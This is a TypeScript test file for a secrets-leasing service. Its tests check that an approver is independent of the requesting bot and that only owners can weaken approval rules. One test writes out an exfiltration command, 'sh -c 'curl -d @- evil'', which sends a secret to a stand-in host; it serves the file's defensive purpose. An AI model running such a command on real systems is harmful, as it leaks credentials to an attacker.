// No single human can obtain the value of an approval-gated secret: every way one
// admin could hold the bot's token (or choose what it leases, or what runs with the
// value) and also be the approver, and every way to take a secret out of the rules.
import { readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDatabase, type TestDatabase } from "../../test/database";
import { refusal, sealAudit, seedBot, seedOrg, seedSecret, unique } from "../../test/fixtures";
import { sqlPool, transaction } from "../db/prisma";
import { SYSTEM_ACTOR, type Actor } from "../audit/record-audit-event";
import { hashPassword } from "../users/password";
import { newId } from "../ids";
import { rotateBotToken } from "../bots/rotate-bot-token";
import { createGrant } from "../grants/create-grant";
import { deleteGrant } from "../grants/delete-grant";
import { createMount } from "../mounts/create-mount";
import { updateMount } from "../mounts/update-mount";
import { deleteMount } from "../mounts/delete-mount";
import { createSecret } from "../secrets/create-secret";
import { updateSecret } from "../secrets/update-secret";
import { deleteSecret } from "../secrets/delete-secret";
import { updatePolicy } from "../policy/update-policy";
import { changeMemberRole } from "../members/change-member-role";
import { requestLease } from "../leases/request-lease";
import { collectLease } from "../leases/collect-lease";
import { resolveLease } from "../leases/resolve-lease";
import { requestLeaseSchema } from "../validations/lease";
import { createMountSchema } from "../validations/mount";
import { approveLease } from "./approve-lease";
import { denyLease } from "./deny-lease";
import { listPendingLeases } from "./list-pending-leases";
import { auditingCoverageRefusals } from "./approval-coverage";
import { can } from "../auth/roles";
import type { Role } from "../generated/prisma/enums";
import type { BotPrincipal } from "../auth/authenticate-bot";

let db: TestDatabase;
// Members never sign in here: one bcrypt hash for all keeps the file fast on shared cores.
let passwordHash: string;
beforeAll(async () => {
  db = await createTestDatabase();
  passwordHash = await hashPassword("correct horse battery");
});
afterAll(async () => {
  await db?.drop();
});

const justification = "Quarterly payroll export for the auditors";
const leaseInput = (secret: string, extra: Record<string, unknown> = {}) => requestLeaseSchema.parse({ secret, justification, ...extra });

const user = (id: string): Actor => ({ type: "user", id });

/** An org whose policy gates the tag "pci", an owner, three admins and a gated secret. */
async function gatedOrg({ approvalsRequired = 1 } = {}) {
  const org = await seedOrg(db.prisma);
  const member = async (role: Role) => {
    const u = await db.prisma.user.create({ data: { id: newId("usr"), orgId: org.orgId, email: `${unique("m-")}@example.test`, role, passwordHash }, select: { id: true } });
    return { id: u.id, actor: user(u.id) };
  };
  const [a, b, c] = [await member("admin"), await member("admin"), await member("admin")];
  const owner = { id: org.user.id, actor: org.actor };
  await transaction(db.prisma, (tx) => updatePolicy(tx, { orgId: org.orgId, actor: owner.actor, input: { approvalTags: ["pci"], approvalsRequired } }));
  const value = `payroll-${unique()}-${unique()}`;
  const secret = await transaction(db.prisma, (tx) =>
    createSecret(tx, { orgId: org.orgId, actor: owner.actor, input: { name: unique("PAYROLL_").toUpperCase(), scope: "default", description: "", tags: ["pci"], value } }),
  );
  return { orgId: org.orgId, owner, a, b, c, secret, value, member };
}
type Org = Awaited<ReturnType<typeof gatedOrg>>;

async function bot(o: Org, actor: Actor) {
  return seedBot(db.prisma, o.orgId, actor);
}
async function grant(o: Org, botId: string, actor: Actor, extra: { mountId?: string; secretId?: string } = {}) {
  return transaction(db.prisma, (tx) =>
    createGrant(tx, { orgId: o.orgId, actor, input: { botId, secretId: extra.secretId ?? o.secret.id, singleUseOnly: false, mountId: extra.mountId } }),
  );
}
async function rotate(o: Org, botId: string, actor: Actor) {
  return transaction(db.prisma, (tx) => rotateBotToken(tx, { orgId: o.orgId, id: botId, actor }));
}
async function pending(o: Org, principal: BotPrincipal, extra: Record<string, unknown> = {}) {
  const lease = await requestLease(db.prisma, { bot: principal, input: leaseInput(o.secret.name, extra) });
  expect(lease.status).toBe("pending");
  return lease.id;
}
const approve = (o: Org, leaseId: string, userId: string) => approveLease(db.prisma, { orgId: o.orgId, leaseId, userId });
const status = async (leaseId: string) => (await db.prisma.lease.findUniqueOrThrow({ where: { id: leaseId } })).status;

describe("an approver must be independent of the requesting bot", () => {
  it("(finding 2a) refuses the admin who rotated another creator's bot token and granted it the secret", async () => {
    const o = await gatedOrg();
    const b = await bot(o, o.b.actor); // someone else's bot
    await rotate(o, b.bot.id, o.a.actor); // A now holds its only working token
    await grant(o, b.bot.id, o.a.actor);
    const leaseId = await pending(o, b.principal);

    expect(await refusal(approve(o, leaseId, o.a.id))).toEqual({ code: "forbidden", message: "You issued this bot's current token, so you may not decide its requests" });
    expect(await status(leaseId)).toBe("pending");
    expect((await collectLease(db.prisma, { orgId: o.orgId, botId: b.bot.id, id: leaseId })).status).toBe("pending");
    await sealAudit(db.prisma);
    const refused = await db.prisma.auditEvent.findFirstOrThrow({ where: { leaseId, type: "lease.approval_refused" } });
    expect(refused).toMatchObject({ actorId: o.a.id, outcome: "denied" });

    // Someone independent of the token and the grant may approve; then it works as before.
    expect(await approve(o, leaseId, o.c.id)).toMatchObject({ status: "active", approvals: 1, required: 1 });
    const collected = await collectLease(db.prisma, { orgId: o.orgId, botId: b.bot.id, id: leaseId });
    expect(collected).toMatchObject({ status: "active", leaseToken: expect.stringMatching(/^rvl_/) });
    const resolved = await resolveLease(db.prisma, { leaseId, leaseToken: (collected as { leaseToken: string }).leaseToken });
    expect(resolved.value).toBe(o.value);
  });

  it("refuses whoever created the grant, even on a bot whose token they never saw", async () => {
    const o = await gatedOrg();
    const b = await bot(o, o.b.actor);
    await grant(o, b.bot.id, o.a.actor);
    const leaseId = await pending(o, b.principal);
    expect(await refusal(approve(o, leaseId, o.a.id))).toEqual({ code: "forbidden", message: "You granted this bot the secret, so you may not decide its requests" });
    expect(await refusal(approve(o, leaseId, o.b.id))).toMatchObject({ code: "forbidden", message: expect.stringContaining("You created this bot") });
    expect(await approve(o, leaseId, o.c.id)).toMatchObject({ status: "active" });
  });

  it("refuses an admin who creates a bot and its grant, then approves its request", async () => {
    const o = await gatedOrg();
    const b = await bot(o, o.a.actor);
    await grant(o, b.bot.id, o.a.actor);
    const leaseId = await pending(o, b.principal);
    expect(await refusal(approve(o, leaseId, o.a.id))).toMatchObject({ code: "forbidden", message: expect.stringContaining("You created this bot") });
    // Nor may they end it with a denial in someone else's name: they may not decide at all.
    expect(await refusal(denyLease(db.prisma, { orgId: o.orgId, leaseId, userId: o.a.id, reason: "x" }))).toMatchObject({ code: "forbidden" });
    expect(await status(leaseId)).toBe("pending");
  });

  it("voids an approval when its approver rotates the token afterwards: collecting revokes the lease", async () => {
    const o = await gatedOrg();
    const b = await bot(o, o.owner.actor);
    await grant(o, b.bot.id, o.owner.actor);
    const leaseId = await pending(o, b.principal);
    expect(await approve(o, leaseId, o.a.id)).toMatchObject({ status: "active" }); // A is independent here…
    await rotate(o, b.bot.id, o.a.actor); // …then takes the token and collects with it.

    const collected = await collectLease(db.prisma, { orgId: o.orgId, botId: b.bot.id, id: leaseId });
    expect(collected.status).toBe("revoked");
    expect(collected).not.toHaveProperty("leaseToken");
    const row = await db.prisma.lease.findUniqueOrThrow({ where: { id: leaseId } });
    expect(row).toMatchObject({ status: "revoked", tokenHash: null, revokeReason: "approval no longer independent: 0 of 1 approvals still count" });
    await sealAudit(db.prisma);
    const event = await db.prisma.auditEvent.findFirstOrThrow({ where: { leaseId, type: "lease.revoked" } });
    expect(event).toMatchObject({ actorType: "system", reason: row.revokeReason });
  });

  it("voids an approval when its approver recreates the grant afterwards", async () => {
    const o = await gatedOrg();
    const b = await bot(o, o.owner.actor);
    const g = await grant(o, b.bot.id, o.owner.actor);
    const leaseId = await pending(o, b.principal);
    expect(await approve(o, leaseId, o.a.id)).toMatchObject({ status: "active" });
    await transaction(db.prisma, (tx) => deleteGrant(tx, { orgId: o.orgId, id: g.id, actor: o.a.actor }));
    await grant(o, b.bot.id, o.a.actor);
    expect((await collectLease(db.prisma, { orgId: o.orgId, botId: b.bot.id, id: leaseId })).status).toBe("revoked");
  });

  it("refuses every editor of the mount a request runs through (its command gets the value), with a mount-limited grant", async () => {
    const o = await gatedOrg();
    const b = await bot(o, o.owner.actor);
    const mountInput = createMountSchema.parse({
      name: unique("m-"),
      botId: b.bot.id,
      command: "payroll-mcp",
      mappings: [{ secret: o.secret.name, env: "PAYROLL_KEY" }],
      justificationTemplate: justification,
    });
    const mount = await transaction(db.prisma, (tx) => createMount(tx, { orgId: o.orgId, actor: o.owner.actor, input: mountInput }));
    // A swaps the command for one that sends the value to A; the owner later touches the TTL.
    await transaction(db.prisma, (tx) => updateMount(tx, { orgId: o.orgId, id: mount.id, actor: o.a.actor, input: { command: "sh -c 'curl -d @- evil'" } }));
    await transaction(db.prisma, (tx) => updateMount(tx, { orgId: o.orgId, id: mount.id, actor: o.owner.actor, input: { ttlSeconds: 300 } }));
    expect((await db.prisma.mount.findUniqueOrThrow({ where: { id: mount.id } })).editedBy.sort()).toEqual([o.owner.id, o.a.id].sort());
    await grant(o, b.bot.id, o.b.actor, { mountId: mount.id });

    const leaseId = await pending(o, b.principal, { mount: mount.name });
    expect(await refusal(approve(o, leaseId, o.a.id))).toEqual({ code: "forbidden", message: "You edited the mount this request runs through, so you may not decide its requests" });
    expect(await refusal(approve(o, leaseId, o.b.id))).toMatchObject({ code: "forbidden", message: expect.stringContaining("You granted this bot the secret") });

    // Deleting the mount takes the editors' names with it: nobody may approve then.
    await transaction(db.prisma, (tx) => deleteMount(tx, { orgId: o.orgId, id: mount.id, actor: o.a.actor }));
    expect(await refusal(approve(o, leaseId, o.c.id))).toMatchObject({ code: "conflict", message: expect.stringContaining("no longer holds a grant") });
  });

  it("with approvalsRequired = 2 counts distinct, independent, current members only", async () => {
    const o = await gatedOrg({ approvalsRequired: 2 });
    const d = await o.member("admin");
    const b = await bot(o, o.owner.actor);
    await grant(o, b.bot.id, o.owner.actor);

    const first = await pending(o, b.principal);
    expect(await approve(o, first, o.a.id)).toMatchObject({ status: "pending", approvals: 1, required: 2 });
    expect(await refusal(approve(o, first, o.a.id))).toMatchObject({ code: "conflict", message: "You already approved this request" });
    expect(await refusal(approve(o, first, o.owner.id))).toMatchObject({ code: "forbidden" }); // the bot's creator never counts
    expect(await approve(o, first, o.b.id)).toMatchObject({ status: "active", approvals: 2 });

    // An approver who is demoted (or removed) before the lease is released no longer counts.
    const second = await pending(o, b.principal);
    await approve(o, second, o.a.id);
    await transaction(db.prisma, (tx) => changeMemberRole(tx, { orgId: o.orgId, id: o.a.id, role: "viewer", actor: o.owner.actor }));
    expect(await approve(o, second, o.b.id)).toMatchObject({ status: "pending", approvals: 1 });

    // An approver who then rotates the token no longer counts either.
    await rotate(o, b.bot.id, o.b.actor);
    expect(await approve(o, second, o.c.id)).toMatchObject({ status: "pending", approvals: 1 });
    expect(await approve(o, second, d.id)).toMatchObject({ status: "active", approvals: 2 });
    const pendingView = await listPendingLeases(db.prisma, { orgId: o.orgId });
    expect(pendingView.find((p) => p.id === second)).toBeUndefined();
  });

  it("fails closed when nobody is recorded as issuing the token, until a member rotates it", async () => {
    const o = await gatedOrg();
    const b = await bot(o, SYSTEM_ACTOR); // e.g. a bot migrated from before issuers were recorded
    await grant(o, b.bot.id, o.owner.actor);
    const leaseId = await pending(o, b.principal);
    expect(await refusal(approve(o, leaseId, o.a.id))).toMatchObject({ code: "conflict", message: expect.stringContaining("rotate the token first") });
    const [view] = (await listPendingLeases(db.prisma, { orgId: o.orgId })).filter((p) => p.id === leaseId);
    expect(view.approvalBlocked).toContain("rotate the token first");
    // It can still be denied.
    expect(await denyLease(db.prisma, { orgId: o.orgId, leaseId, userId: o.a.id, reason: "unknown token holder" })).toMatchObject({ status: "denied" });

    const { token } = await rotate(o, b.bot.id, o.b.actor);
    expect(token).toMatch(/^rvb_/);
    const next = await pending(o, b.principal);
    expect(await refusal(approve(o, next, o.b.id))).toMatchObject({ code: "forbidden" });
    expect(await approve(o, next, o.a.id)).toMatchObject({ status: "active" });
  });

  it("shows each member why they may not decide", async () => {
    const o = await gatedOrg();
    const b = await bot(o, o.b.actor);
    await rotate(o, b.bot.id, o.a.actor);
    await grant(o, b.bot.id, o.c.actor);
    const leaseId = await pending(o, b.principal);
    const [view] = (await listPendingLeases(db.prisma, { orgId: o.orgId })).filter((p) => p.id === leaseId);
    expect(view.excludedApprovers).toEqual({
      [o.b.id]: "You created this bot",
      [o.a.id]: "You issued this bot's current token",
      [o.c.id]: "You granted this bot the secret",
    });
    expect(view.approvalBlocked).toBeNull();
  });
});

describe("removing approval coverage is an owner's decision, and audited", () => {
  it("(finding 2b) an update that leaves tags out keeps them, so the next lease still waits", async () => {
    const o = await gatedOrg();
    const b = await bot(o, o.owner.actor);
    await grant(o, b.bot.id, o.owner.actor);
    await transaction(db.prisma, (tx) => updateSecret(tx, { orgId: o.orgId, id: o.secret.id, actor: o.a.actor, input: { description: "Payroll export" } }));
    expect((await db.prisma.secret.findUniqueOrThrow({ where: { id: o.secret.id } })).tags).toEqual(["pci"]);
    await pending(o, b.principal);
  });

  it("(finding 2b) refuses an admin who removes an approval tag, and records the refusal", async () => {
    const o = await gatedOrg();
    const b = await bot(o, o.owner.actor);
    await grant(o, b.bot.id, o.owner.actor);
    const attempt = auditingCoverageRefusals(db.prisma, () =>
      transaction(db.prisma, (tx) => updateSecret(tx, { orgId: o.orgId, id: o.secret.id, actor: o.a.actor, input: { description: "", tags: [] } })),
    );
    expect(await refusal(attempt)).toEqual({ code: "forbidden", message: "Only an owner may remove the approval tag pci from a secret" });
    expect((await db.prisma.secret.findUniqueOrThrow({ where: { id: o.secret.id } })).tags).toEqual(["pci"]);
    await pending(o, b.principal);
    await sealAudit(db.prisma);
    const denial = await db.prisma.auditEvent.findFirstOrThrow({ where: { orgId: o.orgId, type: "admin.denied", actorId: o.a.id } });
    expect(denial).toMatchObject({ outcome: "denied", reason: "role admin lacks approvals:remove-coverage", secretId: o.secret.id, data: { approvalTagsRemoved: ["pci"] } });

    // Other tags stay an admin's business.
    await transaction(db.prisma, (tx) => updateSecret(tx, { orgId: o.orgId, id: o.secret.id, actor: o.a.actor, input: { tags: ["pci", "finance"] } }));
    await transaction(db.prisma, (tx) => updateSecret(tx, { orgId: o.orgId, id: o.secret.id, actor: o.a.actor, input: { tags: ["pci"] } }));
  });

  it("lets the owner remove it, recording what was removed", async () => {
    const o = await gatedOrg();
    const b = await bot(o, o.owner.actor);
    await grant(o, b.bot.id, o.owner.actor);
    await transaction(db.prisma, (tx) => updateSecret(tx, { orgId: o.orgId, id: o.secret.id, actor: o.owner.actor, input: { tags: [] } }));
    await sealAudit(db.prisma);
    const event = await db.prisma.auditEvent.findFirstOrThrow({ where: { orgId: o.orgId, type: "secret.updated", secretId: o.secret.id } });
    expect(event).toMatchObject({ actorId: o.owner.id, data: { fields: ["tags"], tags: { from: ["pci"], to: [] }, approvalTagsRemoved: ["pci"] } });
    expect((await requestLease(db.prisma, { bot: b.principal, input: leaseInput(o.secret.name) })).status).toBe("active");
  });

  it("refuses an admin who deletes a gated secret to recreate it under the same name outside the rules", async () => {
    const o = await gatedOrg();
    // Gated by id this time, so a recreated secret (new id) would escape the rule.
    await transaction(db.prisma, (tx) => updatePolicy(tx, { orgId: o.orgId, actor: o.owner.actor, input: { approvalTags: [], approvalSecretIds: [o.secret.id] } }));
    await transaction(db.prisma, (tx) => updateSecret(tx, { orgId: o.orgId, id: o.secret.id, actor: o.owner.actor, input: { tags: [] } }));
    const attempt = auditingCoverageRefusals(db.prisma, () => transaction(db.prisma, (tx) => deleteSecret(tx, { orgId: o.orgId, id: o.secret.id, actor: o.a.actor })));
    expect(await refusal(attempt)).toEqual({ code: "forbidden", message: "Only an owner may delete a secret under an approval rule" });
    expect(await db.prisma.secret.count({ where: { id: o.secret.id } })).toBe(1);
    await sealAudit(db.prisma);
    expect(await db.prisma.auditEvent.count({ where: { orgId: o.orgId, type: "admin.denied", actorId: o.a.id, secretId: o.secret.id } })).toBe(1);

    // Ungated secrets are still an admin's to delete; the owner may delete gated ones.
    const { secret: plain } = await seedSecret(db.prisma, o.orgId);
    await transaction(db.prisma, (tx) => deleteSecret(tx, { orgId: o.orgId, id: plain.id, actor: o.a.actor }));
    const result = await transaction(db.prisma, (tx) => deleteSecret(tx, { orgId: o.orgId, id: o.secret.id, actor: o.owner.actor }));
    expect(result.id).toBe(o.secret.id);
    await sealAudit(db.prisma);
    const event = await db.prisma.auditEvent.findFirstOrThrow({ where: { orgId: o.orgId, type: "secret.deleted", secretId: o.secret.id } });
    expect(event.data).toMatchObject({ approvalCoverageRemoved: true });
  });

  it("refuses anyone but an owner who drops or weakens an approval rule", async () => {
    const o = await gatedOrg({ approvalsRequired: 2 });
    expect(can("admin", "policy:write")).toBe(false);
    for (const input of [{ approvalTags: [] }, { approvalsRequired: 1 }, { approvalTags: ["pci"], approvalSecretIds: [] as string[] }]) {
      if ("approvalSecretIds" in input) {
        await transaction(db.prisma, (tx) => updatePolicy(tx, { orgId: o.orgId, actor: o.owner.actor, input: { approvalSecretIds: [o.secret.id] } }));
      }
      expect(await refusal(transaction(db.prisma, (tx) => updatePolicy(tx, { orgId: o.orgId, actor: o.a.actor, input })))).toMatchObject({ code: "forbidden" });
    }
    // Tightening is not a removal; the owner may do either, and it is audited.
    await transaction(db.prisma, (tx) => updatePolicy(tx, { orgId: o.orgId, actor: o.owner.actor, input: { approvalTags: [] } }));
    await sealAudit(db.prisma);
    const event = await db.prisma.auditEvent.findFirstOrThrow({ where: { orgId: o.orgId, type: "policy.updated", actorId: o.owner.id }, orderBy: { seq: "desc" } });
    expect(event.data).toMatchObject({ changes: { approvalTags: { from: ["pci"], to: [] } } });
  });
});

describe("the migration's backfill from the audit trail", () => {
  const migration = readFileSync(path.join(__dirname, "../../prisma/migrations/20261128072425_approval_independence/migration.sql"), "utf8");
  const backfill = migration.slice(migration.indexOf("-- Backfill"));

  it("names who created and issued each bot's token, created each grant and edited each mount", async () => {
    const o = await gatedOrg();
    const never = await bot(o, o.a.actor);
    const rotated = await bot(o, o.a.actor);
    await rotate(o, rotated.bot.id, o.b.actor);
    const byScript = await bot(o, SYSTEM_ACTOR);
    const g = await grant(o, rotated.bot.id, o.c.actor);
    const mount = await transaction(db.prisma, (tx) =>
      createMount(tx, {
        orgId: o.orgId,
        actor: o.owner.actor,
        input: createMountSchema.parse({ name: unique("m-"), botId: never.bot.id, command: "x", mappings: [{ secret: o.secret.name, env: "K" }], justificationTemplate: justification }),
      }),
    );
    await transaction(db.prisma, (tx) => updateMount(tx, { orgId: o.orgId, id: mount.id, actor: o.a.actor, input: { command: "y" } }));
    // As rows written before this migration look:
    await db.prisma.$executeRaw`UPDATE "Bot" SET "createdBy" = NULL, "tokenIssuedBy" = NULL WHERE "orgId" = ${o.orgId}`;
    await db.prisma.$executeRaw`UPDATE "Grant" SET "createdBy" = NULL WHERE "orgId" = ${o.orgId}`;
    await db.prisma.$executeRaw`UPDATE "Mount" SET "editedBy" = '{}' WHERE "orgId" = ${o.orgId}`;

    // The backfill read the trail as it was then: every event sealed.
    await sealAudit(db.prisma, o.orgId);
    await sqlPool(db.prisma).query(backfill);

    const bots = await db.prisma.bot.findMany({ where: { orgId: o.orgId }, select: { id: true, createdBy: true, tokenIssuedBy: true } });
    const byId = (id: string) => bots.find((x) => x.id === id);
    expect(byId(never.bot.id)).toMatchObject({ createdBy: o.a.id, tokenIssuedBy: o.a.id });
    expect(byId(rotated.bot.id)).toMatchObject({ createdBy: o.a.id, tokenIssuedBy: o.b.id });
    // Unknown stays unknown: approvals of its requests are refused until it is rotated.
    expect(byId(byScript.bot.id)).toMatchObject({ createdBy: null, tokenIssuedBy: null });
    expect((await db.prisma.grant.findUniqueOrThrow({ where: { id: g.id } })).createdBy).toBe(o.c.id);
    expect((await db.prisma.mount.findUniqueOrThrow({ where: { id: mount.id } })).editedBy.sort()).toEqual([o.owner.id, o.a.id].sort());
  });
});
